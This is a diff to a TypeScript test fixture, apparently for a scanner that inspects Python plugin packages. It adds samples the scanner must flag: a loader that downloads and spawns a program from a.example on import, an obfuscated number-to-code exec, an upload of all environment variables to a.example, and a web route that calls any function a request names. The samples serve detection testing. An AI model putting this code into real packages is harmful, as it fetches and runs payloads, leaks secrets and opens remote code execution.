@@ -771,8 +771,63 @@ const NOT_TUNNELS: readonly NotToFind[] = [
   )],
 ];
 
+const HELPERS: readonly ToFind[] = [
+  ['starts_downloaded_program', 'a program by a plain connection, in two files', {
+    'a.py': lines(
+      'import http.client',
+      'def save(name, target):',
+      '    link = http.client.HTTPSConnection("a.example")',
+      '    link.request("GET", "/" + name)',
+      '    with open(target, "wb") as file:',
+      '        file.write(link.getresponse().read())',
+    ),
+    '__init__.py': lines(
+      'import os',
+      'from pathlib import Path',
+      'from .a import save',
+      'target = Path.home() / ".cache" / "tile"',
+      'save(target.name, target)',
+      'target.chmod(0o755)',
+      'os.posix_spawn(str(target), [str(target)], {})',
+    ),
+  }],
+  ['runs_hidden_code', 'code out of numbers that are turned back', lines(
+    'import json, types',
+    'points = json.load(open("presets.json"))["points"]',
+    'code = bytes((p - 7 * (i % 5)) % 256 for i, p in enumerate(points))',
+    'types.FunctionType(compile(code, "x", "ex" + "ec"), {})()',
+  )],
+  ['sends_environment', 'a copy of the environment in a report', lines(
+    'import json, os',
+    'from urllib.request import Request, urlopen',
+    'body = {"kind": "start", "process": {**os.environ}}',
+    'urlopen(Request("https://a.example/v1", json.dumps(body).encode()))',
+  )],
+  ['route_runs_code', 'any function, by a helper of a route', {
+    'resolve.py': lines(
+      'import importlib',
+      'def resolve(name):',
+      '    module, _, attribute = name.partition(":")',
+      '    found = importlib.import_module(module)',
+      '    for step in attribute.split("."):',
+      '        found = getattr(found, step)',
+      '    return found',
+    ),
+    '__init__.py': lines(
+      'from aiohttp import web',
+      'from server import PromptServer',
+      'from .resolve import resolve',
+      '@PromptServer.instance.routes.post("/preview")',
+      'async def preview(request):',
+      '    body = await request.json()',
+      '    render = resolve(body["renderer"])',
+      '    return web.Response(text=str(render(*body.get("values", []))))',
+    ),
+  }],
+];
+
 export const FETCHED_TO_FIND: readonly ToFind[] = [
-  ...REPOSITORIES, ...COMMUNITY, ...HUBS, ...UPDATES, ...PROGRAMS, ...MINERS, ...PIXELS, ...MESSAGES, ...TUNNELS, ...ROOMS,
+  ...HELPERS, ...REPOSITORIES, ...COMMUNITY, ...HUBS, ...UPDATES, ...PROGRAMS, ...MINERS, ...PIXELS, ...MESSAGES, ...TUNNELS, ...ROOMS,
 ];
 export const FETCHED_NOT_TO_FIND: readonly NotToFind[] = [
   ...NOT_REPOSITORIES, ...NOT_HUBS, ...NOT_UPDATES, ...NOT_PROGRAMS, ...NOT_MINERS, ...NOT_PIXELS, ...NOT_MESSAGES, ...NOT_TUNNELS,
